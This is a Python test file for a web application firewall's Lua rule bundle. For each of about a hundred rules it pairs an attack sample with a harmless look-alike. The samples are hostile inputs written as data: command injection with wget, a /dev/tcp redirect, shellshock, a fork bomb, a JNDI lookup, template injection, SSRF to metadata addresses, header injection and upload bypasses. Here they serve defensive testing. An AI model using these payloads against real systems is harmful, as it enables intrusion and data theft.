"""Every rule of the WAF's attack classes finds its attack and lets an honest look-alike pass."""

import subprocess
from pathlib import Path

from lumos_agent.render.haproxy import lua_bundle

CLASSES = ("shell", "php", "java", "template", "interpreter", "query", "remote", "upload", "header", "scanner", "probe")

# place, parameter's name, text; places: query unless said otherwise.
Value = tuple[str, str, str]


def query(text: str, name: str = "q") -> Value:
    return ("query", name, text)


def upload(text: str) -> Value:
    return ("filename", "file", text)


def agent(text: str) -> Value:
    return ("header", "user-agent", text)


def path(text: str) -> Value:
    return ("path", "", text)


# rule -> an attack and a look-alike that no rule of these classes may name.
RULES: dict[str, tuple[Value, Value]] = {
    "shell-command": (query("10.1.1.1; wget -q http://x.test/a"), query("he came; wget was not installed")),
    "shell-lone": (query("x|whoami"), query("name|date|type")),
    "shell-substitution": (query("a$(uname -a)"), query("run `git status` to see what changed")),
    "shell-start": (query("tar -xzf backup.tgz"), query("tar and feathers")),
    "shell-target": (query("cat /etc/hosts"), query("cat and dog, time and tide")),
    "shell-evasion": (query("x;c'a't /tmp/x"), query("rock'n'roll; it's only me")),
    "shell-ifs": (query("x;cat$IFS/tmp/x"), query("what if $100 is too much")),
    "shell-glob": (query("/b?n/c?t x"), query("/posts/[id]/edit?x=1")),
    "shell-brace": (query("{cat,/tmp/x}"), query("src/{main,test}.js")),
    "shell-shellshock": (agent("() { :;}; echo x"), query("const noop = () => {}")),
    "shell-socket": (query("x > /dev/tcp/10.0.0.1/99"), query("a fish | a dish")),
    "shell-batch": (query("for /f %i in (a.txt) do x"), query("if x == y then we are done")),
    "shell-arithmetic": (query("|expr $((4+5))"), query("it costs $((about five))")),
    "shell-bomb": (query("b(){ b|b& };b"), query("f(x) { return g(x) }")),
    "shell-alias": (query("alias ll='rm x'"), query("an alias for my name")),
    "shell-variable": (query("p=cat;q=x;$p $q"), query("price=5; cost $price")),
    "shell-cmdlet": (query("Get-Process -Name x"), query("read-only and add-on items")),
    "shell-environment": (query("%SystemRoot%\\x"), query("50% off the %systemroot of trees")),
    "shell-option": (query("-oProxyCommand=x"), query("--output=file.txt")),
    "php-render-array": (("name", "", "mail[#post_render][]"), ("name", "", "mail[post][]")),
    "php-tag": (query("<?php echo 1;"), query('<?xml version="1.0"?><a/>')),
    "php-open": (query("<?php"), query("what does <? mean in a file")),
    "php-wrapper": (query("php://filter/x"), query("https://php.net/manual")),
    "php-superglobal": (query("$_GET['x']"), query("the $_get of things")),
    "php-object": (query('O:3:"Foo":1:{s:1:"a";i:1;}'), query("o:3 the score, a:4 the rest")),
    "php-exec": (query("x;shell_exec('ls')"), query("the system (it is old) works")),
    "php-call": (query("array_diff_key()"), query("a function (like this) is fine")),
    "php-info": (query("phpinfo();"), query("phpinfo shows the version")),
    "php-variable-call": (query("$f[1]('id')"), query("pay $5 (five) now")),
    "php-interpolation": (query("${system('id')}"), query("${name} and ${city}")),
    "php-modifier": (query("/.*/e"), query("/a/b/c.e")),
    "php-setting": (query("auto_prepend_file=/tmp/x"), query("page_size=10")),
    "php-session-file": (upload("sess_0123456789abcdef"), upload("session notes.txt")),
    "java-jndi": (query("${${lower:j}ndi:ldap://x.test/a}"), query("jndi is a naming interface of Java")),
    "java-lookup": (query("${${::-a}${::-b}}"), query("${user.name} ${user.city}")),
    "java-escaped-expression": (query("admin$\\A{3*4}"), query("costs $\\ {a} or {3*4}")),
    "java-expression": (query("T(java.lang.Math).random()"), query("f(t) and T(x)")),
    "java-runtime": (query('Runtime.getRuntime().exec("x")'), query("the Java runtime executes bytecode")),
    "java-class-loader": (query("x", "class.module.classLoader.x"), query("x", "class.name")),
    "java-serialized": (query("rO0ABXNyAA"), query("Row 0 AB")),
    "java-gadget": (query("org.x.InvokerTransformer"), query("a transformer for 12 volts")),
    "java-hidden-gadget": (query("SW52b2tlclRyYW5zZm9ybWVy"), query("dGhpcyBpcyBwbGFpbiB0ZXh0")),
    "java-class": (query("java.io.FileReader"), query("see java.io.FileReader in the manual")),
    "java-bean": (query("<java version='1'><void class='ProcessBuilder'/></java>"), query("<coffee><java/></coffee>")),
    "template-arithmetic": (query("{{7*7}}"), query("{{ name }}")),
    "template-attribute": (query("{{x.__class__}}"), query("the __class__ attribute of Python")),
    "template-call": (query("{{ 'a'|join }}"), query("{{ user.name }}")),
    "template-object": (query("{{config}}"), query("{{configuration}}")),
    "template-statement": (query("#set($x = 1)"), query("#settings ($5)")),
    "template-tag": (query("<%= 7*7 %>"), query("<%= title %>")),
    "template-gadget": (query("${x.util.os.system('a')}"), query("the os system of my phone")),
    "script-prototype": (query("1", "__proto__[admin]"), query("prototype of a constructor")),
    "script-node": (query("require('child_process').exec('x')"), query("a child process requires care")),
    "script-constructor": (query("a.constructor.constructor('x')()"), query("the constructor of this house")),
    "script-serialized": (query("_$$ND_FUNC$$_function(){}"), query("$$ and nd_func")),
    "script-flight": (query('{"0":"$1:constructor:constructor"}'), query("$5:30 is the price")),
    "script-python": (query("__import__('os').getcwd()"), query("import os and sys")),
    "script-ruby": (query("IO.popen('ls')"), query("io.popen is a method of Ruby")),
    "script-perl": (query("@{[system 'x']}"), query("me@{place}")),
    "script-lua": (query("os.execute('x')"), query("os.execute runs programs")),
    "script-loop": (query("while(true);"), query("while (it lasts) we stay")),
    "script-probe": (query("console.log(1)"), query("the console logs one line")),
    "script-leave": (query("';return 'a'=='a"), query("it's so; return (soon) to us")),
    "script-lookup": (query("a", "author__user__password__startswith"), query("a", "city__startswith")),
    "nosql-operator": (query("1", "user[$ne]"), query("1", "user[name]")),
    "nosql-key": (("json", "$gt", "1"), ("json", "$version", "1")),
    "nosql-text": (query('{"$gt": ""}'), query("$gt is a symbol: new")),
    "nosql-code": (query("', $where: '1 == 1"), query("where: here")),
    "ldap-filter": (query("x)(uid=*"), query("f(x)(y)")),
    "ldap-open": (query("x)(|"), query("(a) (b)")),
    "ldap-rule": (query("cn:2.4.6.8.10:=x"), query("at 12:30:=noon")),
    "xpath-function": (query("' or count(/*)=1 or 'a'='b"), query("the count (of Monte Cristo)")),
    "xpath-axis": (query("a/ancestor::b"), query("std::vector and child care")),
    "remote-metadata": (query("http://0xA9FEA9FE/latest"), query("http://169.254.1.1/x")),
    "remote-disguised-host": (query("http://3232235777/"), query("http://12345.test/")),
    "remote-loopback": (query("http://localhost:8080/x"), query("https://localhost-reviews.test/")),
    "remote-scheme": (query("gopher://x.test/_a"), query("file: see attachment")),
    "remote-literal": (query("http://[2001:db8::1]/"), query("http://x.test/[a]")),
    "remote-socket": (query("unix:AAAA|http://x.test/"), query("unix: a history | of http")),
    "remote-address": (query("http://192.0.2.7/x", "templatepath"), query("http://192.0.2.7/x", "next")),
    "remote-include": (query("http://x.test/a.txt", "base_dir"), query("http://x.test/a.txt", "link")),
    "remote-cut": (query("http://x.test/a.txt?"), query("http://x.test/a?b=c")),
    "remote-data": (query("data:text/html,x"), query("data:image/png;base64,AAAA")),
    "upload-program": (upload("a.php"), upload("a.pdf")),
    "upload-disguised": (upload("a.php\0.jpg"), upload("php.lesson.1.jpg")),
    "upload-control": (upload(".htaccess"), upload("htaccess.txt")),
    "upload-secret": (upload("wp-config.php"), upload("config.txt")),
    "header-field": (query("x\r\nLocation: http://x.test/"), ("form", "q", "Where?\r\nLocation: at home")),
    "header-line": (query("x\r\nX-Any-Header: 1"), ("form", "q", "Hi\r\nwell-known: yes")),
    "header-split": (query("x\r\n\r\nHTTP/1.1 200 OK"), ("form", "q", "Hi\r\nHTTP/1.1 is old")),
    "header-cookie": (query("<script>document.cookie='a=b'</script>"), query("document.cookie is readable")),
    "header-mail": (query("a@x.test\nbcc: b@x.test"), ("form", "q", "Dear all\nto: everyone")),
    "header-mail-command": (query("\r\nRETR 5\r\n"), ("form", "q", "\nlist 3 things you like\n")),
    "header-session": (("session", "phpsessid", "0123"), query("0123", "PHPSESSID")),
    "header-name": (("name", "", "a\r\nb"), ("name", "", "a b")),
    "header-path": (path("/a\nb.php"), path("/a/nb.php")),
    "header-markup": (("cookie", "q", "a\r\n\r\n<html>"), ("cookie", "q", "a\r\n<b")),
    "scanner-agent": (agent("sqlmap/1.7"), agent("Mozilla/5.0 (compatible; Googlebot/2.1)")),
    "scanner-callback": (query("http://abc.oastify.com/"), query("http://toastify.com/")),
    "probe-secret": (path("/app/.env"), path("/env/settings")),
    "probe-repository": (path("/.git/HEAD"), path("/git/head")),
    "probe-backup": (path("/index.php.bak"), path("/photo.jpg.bak")),
    "probe-console": (path("/actuator/heapdump"), path("/actuator/health")),
    "scanner-ssi": (query('<!--#exec cmd="x"-->'), query("<!-- # a comment -->")),
}  # fmt: skip

HONEST: list[Value] = [
    query("time he came; cat and dog"), query("tom & jerry; who knows & more"), query("{ query { user { id } } }"),
    query("a=1&id=5&sort=desc&date=2024"), query("f(x) = $x^2$ + (a|b)"), query("use `ls -la` or `id` here, please"),
    query("Dear {{name}}, your order ${order.id} is on its way"), query("50% off; $5 each | today & tomorrow"),
    query("He was working at Meta, IBM; and (later) at Tinder."), query("Look; id: 5, type: set | host: none"),
    query("function of (x) and {y}"), query("C:\\Users\\me\\file.txt"), query("a && b || c"), query("<b>bold</b>"),
    ("json", "message", "first line\nsecond: line\nfind it at home\nsort of\n"), query("SELECT `id`, `name` FROM t"),
    ("header", "referer", "http://localhost:3000/"), agent("curl/8.5.0"), agent("python-requests/2.31.0"),
    agent("Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"), query("What's the cost? (in $)"),
    ("form", "javax.faces.viewstate", "-12345:678"), ("name", "", "org.apache.struts.taglib.html.TOKEN"), ("name", "", "book__author__name"),
    query("https://example.com/path/?a=b&c=d;e#f"), query("++i; --j; (a)[0]"), upload("photo (1).final.jpg"),
]  # fmt: skip

_RUNNER = """
core = { register_action = function() end, register_service = function() end }
Map = { new = function() end }
dofile(arg[1])
local values = require("values")
local classes, known = {}, {}
for name in arg[3]:gmatch("%a+") do classes[#classes + 1] = require("rules." .. name) end
if arg[4] == "list" then
  for _, class in ipairs(classes) do
    for _, rule in pairs(class.rules) do io.write(rule.id, "\\t", rule.score, "\\t", #rule.why, "\\n") end
  end
  return
end
local function plain(hex) return (hex:gsub("%x%x", function(byte) return string.char(tonumber(byte, 16)) end)) end
for line in io.lines(arg[2]) do
  local place, name, text = line:match("^(%a+) (%x*)%.(%x*)$")
  local cased = plain(text)
  local value = values.made(place, plain(name), cased, cased, 0)
  local found = {}
  for _, class in ipairs(classes) do
    if not class.gate or class.gate(value) then
      class.judge(value, function(rule, matched)
        assert(class.group and #matched <= 128, rule.id)
        found[#found + 1] = rule.id
      end)
    end
  end
  io.write(table.concat(found, ","), "\\n")
end
"""


def run(tmp_path: Path, values: list[Value], *extra: str) -> list[str]:
    (tmp_path / "waf.lua").write_text(lua_bundle())
    (tmp_path / "run.lua").write_text(_RUNNER)
    lines = [f"{place} {name.encode().hex()}.{text.encode('latin-1').hex()}\n" for place, name, text in values]
    (tmp_path / "in").write_text("".join(lines))
    argv = ["lua5.3", *(str(tmp_path / name) for name in ("run.lua", "waf.lua", "in")), ",".join(CLASSES), *extra]
    done = subprocess.run(argv, capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stderr
    return done.stdout.splitlines()


def found(tmp_path: Path, values: list[Value]) -> list[list[str]]:
    return [[rule for rule in line.split(",") if rule] for line in run(tmp_path, values)]


def test_every_rule_is_in_the_table_and_says_why(tmp_path: Path) -> None:
    listed = [line.split("\t") for line in run(tmp_path, [], "list")]
    assert {rule for rule, _, _ in listed} == set(RULES)
    assert all(1 <= int(score) <= 10 and 20 <= int(why) <= 120 for _, score, why in listed)


def test_every_rule_finds_its_attack(tmp_path: Path) -> None:
    answers = found(tmp_path, [attack for attack, _ in RULES.values()])
    missed = {rule: rules for rule, rules in zip(RULES, answers, strict=True) if rule not in rules}
    assert missed == {}


def test_look_alikes_pass(tmp_path: Path) -> None:
    values = [honest for _, honest in RULES.values()] + HONEST
    named = {value[2]: rules for value, rules in zip(values, found(tmp_path, values), strict=True) if rules}
    assert not named
